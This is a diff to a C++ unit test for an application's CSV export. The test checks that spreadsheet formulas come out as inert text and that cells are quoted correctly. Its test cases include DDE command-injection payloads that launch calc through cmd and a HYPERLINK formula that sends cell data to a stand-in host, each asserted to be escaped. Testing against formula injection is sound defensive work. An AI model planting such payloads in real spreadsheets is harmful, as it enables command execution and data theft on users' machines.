@@ -498,7 +498,9 @@ TEST_F(CierreOportunidadPostgreSQL, twoUsersCloseTheSameOpportunityAndOnlyTheFir
     EXPECT_EQ(base.cuenta("Bitacora"), 0);
 }
 
-// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers. A cell
+// Cells a spreadsheet would run as formulas go out as text, also when the formula follows a
+// comma or a semicolon inside the cell (a spreadsheet may split there); numbers stay numbers.
+// A cell holding the separator, a quote or a line break is quoted. A cell
 // longer than the list shows goes out whole, and is copied whole. Fitted, each column takes the
 // width of its header and of the texts of the first rows, those beyond unmeasured; in a window
 // too narrow for them all, the text columns give up width, never below a few characters, while
@@ -507,19 +509,38 @@ TEST(AccionesLista, theCsvCarriesNoFormulasAndFittingShrinksOnlyTextColumnsToThe
 {
     const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
     Kit::ListView lista;
-    const auto csv = [&lista](const QString &celda) {
-        lista.replaceContents({"=Folio"}, {{QString(), {celda}}});
-        const QString texto = textoCsv(lista); // the header, a formula itself, goes out as text too
-        return texto.startsWith("'=Folio\r\n") && texto.endsWith("\r\n") ? texto.mid(9).chopped(2) : texto;
+    const QString casos[][2] = {
+        // the cell, as it goes out
+        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+        {"\t=1+1", "'\t=1+1"},
+        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
+        {"-", "'-"},
+        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
+        {"\r=1+1", "\"'\r=1+1\""},
+        {"x,=cmd|' /C calc'!A0", "\"'x,=cmd|' /C calc'!A0\""},
+        {"Ana; @SUM(A1)", "\"'Ana; @SUM(A1)\""},
+        {"1,2,-3+cmd", "\"'1,2,-3+cmd\""},
+        {"a,,\tb", "\"'a,,\tb\""},
+        {"línea 1\nlínea 2", "\"línea 1\nlínea 2\""},
+        {"fin\r", "\"fin\r\""},
+        {"dice \"sí\"", "\"dice \"\"sí\"\"\""},
+        {"a;b", "\"a;b\""},
+        {"-1234.50", "-1234.50"},
+        {"-$1,234.50", "-$1,234.50"},
+        {"+7", "+7"},
+        {"a=b", "a=b"},
+        {"Pérez, Ana", "Pérez, Ana"},
+        {"1,-5, -$2.50", "1,-5, -$2.50"},
+        {larga, larga},
     };
-    for (const QString celda : {"@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
-                                "-$1,2+cmd|' /C calc'!A0", "-"})
-        EXPECT_EQ(csv(celda), '\'' + celda) << celda.toStdString();
-    EXPECT_EQ(csv("=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")"),
-              "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\"");
-    EXPECT_EQ(csv("\r=1+1"), "\"'\r=1+1\"");
-    for (const QString &celda : {QString("-1234.50"), QString("-$1,234.50"), QString("+7"), QString("a=b"), larga})
-        EXPECT_EQ(csv(celda), celda) << celda.left(40).toStdString();
+    for (const auto &[celda, exportada] : casos) {
+        lista.replaceContents({"=Folio"}, {{QString(), {celda}}});
+        // the header, a formula itself, goes out as text too
+        EXPECT_EQ(textoCsv(lista), "'=Folio\r\n" + exportada + "\r\n") << celda.left(40).toStdString();
+    }
     EXPECT_EQ(textoTabulado(lista), "=Folio\n" + larga + "\n"); // the copy takes the long cell whole too
 
     lista.resize(560, 200);
